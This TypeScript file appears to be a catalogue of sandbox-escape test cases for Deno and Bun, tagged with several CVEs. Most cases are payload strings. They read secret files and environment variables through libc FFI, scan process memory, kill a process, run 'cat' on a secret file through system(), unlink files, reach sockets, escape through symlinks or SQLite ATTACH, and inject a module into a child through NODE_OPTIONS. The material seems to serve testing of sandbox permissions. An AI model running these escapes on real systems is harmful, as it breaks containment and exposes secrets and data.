// Ways out by functions of shared libraries (FFI), and by clients and stores of Bun and Deno.
import { escape, type Escape } from "../programs.ts";

const LIBRARIES = "CVE-2024-27936, CVE-2025-61785 and others: functions of libraries make their own system calls";
const MEMORY = "memory of native code by its address";
const STORES = "a store or a client opens files and sockets itself";
const CHILDREN = "a child that is given other flags";

const wait = "await sleep(700); process.exit(0)";
const other = '"127.0.0.1:" + place.otherPort';
/** Opens libc with the types of Deno, and of Bun; `text` makes an argument of a string. */
const C_OF_DENO = (definitions: string): string =>
  `const text = (one) => new TextEncoder().encode(one + "\\0"); const c = Deno.dlopen("libc.so.6", ${definitions}).symbols;`;
const C_OF_BUN = (definitions: string): string =>
  `const text = (one) => new TextEncoder().encode(one + "\\0"); const c = require("bun:ffi").dlopen("libc.so.6", ${definitions}).symbols;`;
/** An address for `connect`. */
const address =
  "Uint8Array.of(2, 0, place.otherPort >> 8, place.otherPort & 255, 127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0)";
const bun = { home: "bun" } as const;
const deno = { home: "deno" } as const;

export const libraries: Escape[] = [
  escape(
    "a file by Deno.dlopen",
    LIBRARIES,
    "secret",
    `${C_OF_DENO('{ open: { parameters: ["buffer", "i32"], result: "i32" }, read: { parameters: ["i32", "buffer", "usize"], result: "isize" } }')} const bytes = new Uint8Array(99); c.read(c.open(text(secretFile), 0), bytes, 99n); show(bytes)`,
    deno,
  ),
  escape(
    "a file by a function on another thread",
    LIBRARIES,
    "secret",
    `${C_OF_DENO('{ open: { parameters: ["buffer", "i32"], result: "i32", nonblocking: true }, read: { parameters: ["i32", "buffer", "usize"], result: "isize", nonblocking: true } }')} const bytes = new Uint8Array(99); await c.read(await c.open(text(secretFile), 0), bytes, 99n); show(bytes)`,
    deno,
  ),
  escape(
    "a variable by Deno.dlopen",
    LIBRARIES,
    "secret",
    `${C_OF_DENO('{ getenv: { parameters: ["buffer"], result: "pointer" } }')} say(Deno.UnsafePointerView.getCString(c.getenv(text(secret))))`,
    deno,
  ),
  escape(
    "all variables in memory",
    MEMORY,
    "secret",
    `const { environ } = Deno.dlopen("libc.so.6", { environ: { type: "pointer" } }).symbols; const list = new Deno.UnsafePointerView(environ); for (let at = 0; ; at += 8) { const one = list.getPointer(at); if (one === null) break; say(Deno.UnsafePointerView.getCString(one)); }`,
    deno,
  ),
  escape(
    "a process by Deno.dlopen",
    LIBRARIES,
    "killed",
    `${C_OF_DENO('{ kill: { parameters: ["i32", "i32"], result: "i32" } }')} c.kill(place.victim, 9); await sleep(50)`,
    deno,
  ),
  escape(
    "a library in a worker with permissions of its own",
    "CVE-2022-24783 and others: wider workers",
    "secret",
    `const code = ${JSON.stringify(`const c = Deno.dlopen("libc.so.6", { open: { parameters: ["buffer", "i32"], result: "i32" }, read: { parameters: ["i32", "buffer", "usize"], result: "isize" } }).symbols; onmessage = ({ data }) => { const bytes = new Uint8Array(99); c.read(c.open(new TextEncoder().encode(data + "\0"), 0), bytes, 99n); postMessage(new TextDecoder().decode(bytes)); };`)}; const worker = new Worker("data:text/javascript," + encodeURIComponent(code), { type: "module", deno: { permissions: { ffi: true, read: true } } }); worker.onerror = (event) => { event.preventDefault(); process.exit(0); }; worker.onmessage = ({ data }) => { say(data); process.exit(0); }; worker.postMessage(secretFile); await sleep(4000); process.exit(0)`,
    deno,
  ),
  escape(
    "a file by bun:ffi",
    LIBRARIES,
    "secret",
    `${C_OF_BUN('{ open: { args: ["ptr", "i32"], returns: "i32" }, read: { args: ["i32", "ptr", "u64"], returns: "i64" } }')} const bytes = new Uint8Array(99); c.read(c.open(text(secretFile), 0), bytes, 99); show(bytes)`,
    bun,
  ),
  escape(
    "a child by bun:ffi",
    LIBRARIES,
    "secret",
    `${C_OF_BUN('{ system: { args: ["ptr"], returns: "i32" } }')} c.system(text("cat " + secretFile))`,
    bun,
  ),
  escape(
    "a connection by bun:ffi",
    LIBRARIES,
    "reached",
    `${C_OF_BUN('{ socket: { args: ["i32", "i32", "i32"], returns: "i32" }, connect: { args: ["i32", "ptr", "u32"], returns: "i32" } }')} c.connect(c.socket(2, 1, 0), ${address}, 16); ${wait}`,
    bun,
  ),
  escape(
    "a function by its address",
    MEMORY,
    "change",
    `const ffi = require("bun:ffi"), text = (one) => new TextEncoder().encode(one + "\\0"); const { dlsym } = ffi.dlopen("libc.so.6", { dlsym: { args: ["ptr", "ptr"], returns: "ptr" } }).symbols; ffi.CFunction({ ptr: dlsym(null, text("unlink")), args: ["ptr"], returns: "i32" })(text(outside + "/target"))`,
    bun,
  ),

  // Databases and clients.
  escape(
    "Deno.openKv through a link",
    STORES,
    "change",
    'fs.symlinkSync(outside + "/kv.db", work + "/kv.db"); const kv = await Deno.openKv(work + "/kv.db"); await kv.set(["a"], 1); kv.close()',
    deno,
  ),
  escape(
    "Deno.openKv by an address of SQLite",
    STORES,
    "change",
    'for (const name of ["file:" + outside + "/kv.db?mode=rwc", work + "/../../outside/kv.db", outside + "/kv.db"]) try { const kv = await Deno.openKv(name); await kv.set(["a"], 1); kv.close(); } catch (error) { say(error.message); }',
    deno,
  ),
  escape(
    "a database by Bun.SQL",
    STORES,
    "secret",
    'const sql = new Bun.SQL("sqlite://" + outside + "/secret.db"); show(await sql.unsafe("select a from t"))',
    bun,
  ),
  escape(
    "ATTACH by Bun.SQL",
    "CVE-2025-48935: ATTACH without a check",
    "secret",
    'const sql = new Bun.SQL("sqlite://:memory:"); for (const name of [outside + "/secret.db", "file:" + outside + "/secret.db?mode=ro&immutable=1"]) try { await sql.unsafe("attach \'" + name + "\' as o"); show(await sql.unsafe("select a from o.t")); break; } catch (error) { say(error.message); }',
    bun,
  ),
  escape(
    "a file of statements that an error quotes",
    "messages reveal what may not be read",
    "secret",
    'const sql = new Bun.SQL("sqlite://:memory:"); try { await sql.file(secretFile); } catch (error) { say(error.message); }',
    bun,
  ),
  escape(
    "Bun.SQL over a Unix socket",
    STORES,
    "reached",
    `const sql = new Bun.SQL({ adapter: "postgres", path: place.socket, username: "a", database: "b" }); Promise.resolve(sql.unsafe("select 1")).catch((error) => say(error)); ${wait}`,
    bun,
  ),
  escape(
    "Bun.RedisClient over a Unix socket",
    STORES,
    "reached",
    `const client = new Bun.RedisClient("redis+unix://" + place.socket, { autoReconnect: false, maxRetries: 0 }); client.connect().catch((error) => say(error)); ${wait}`,
    bun,
  ),
  escape(
    "Bun.redis with a server that a variable names",
    STORES,
    "reached",
    `process.env.REDIS_URL = "redis://" + ${other}; Promise.resolve(Bun.redis.get("a")).catch((error) => say(error)); ${wait}`,
    bun,
  ),
  escape(
    "an object of S3 by fetch",
    STORES,
    "reached",
    `fetch("s3://bucket/name", { s3: { endpoint: "http://" + ${other}, accessKeyId: "a", secretAccessKey: "b" } }).catch((error) => say(error)); ${wait}`,
    bun,
  ),
  escape(
    "an object of S3 with a server that a variable names",
    STORES,
    "reached",
    `Object.assign(process.env, { S3_ENDPOINT: "http://" + ${other}, S3_BUCKET: "b", S3_ACCESS_KEY_ID: "a", S3_SECRET_ACCESS_KEY: "b" }); Bun.file("s3://bucket/name").text().catch((error) => say(error)); Bun.write("s3://bucket/name", "x").catch((error) => say(error)); ${wait}`,
    bun,
  ),

  escape(
    "WebAssembly that is streamed from a host",
    "imports are requests",
    "reached",
    `WebAssembly.compileStreaming(fetch("http://" + ${other} + "/")).catch((error) => say(error)); ${wait}`,
  ),

  // Children of the runtime.
  escape(
    "a file of variables for a child",
    CHILDREN,
    "secret",
    'show(require("node:child_process").spawnSync(process.execPath, ["--env-file=" + outside + "/secret.env", "-p", "process.env.ESCAPE_FROM_FILE"], { timeout: 15000 }).stdout)',
    { starts: ["brio"] },
  ),
  escape(
    "NODE_OPTIONS of a child",
    CHILDREN,
    "secret",
    'show(require("node:child_process").spawnSync(process.execPath, ["-e", "0"], { env: { ...process.env, NODE_OPTIONS: "--require " + outside + "/module.cjs" }, timeout: 15000 }).stdout)',
    { starts: ["brio"] },
  ),
];
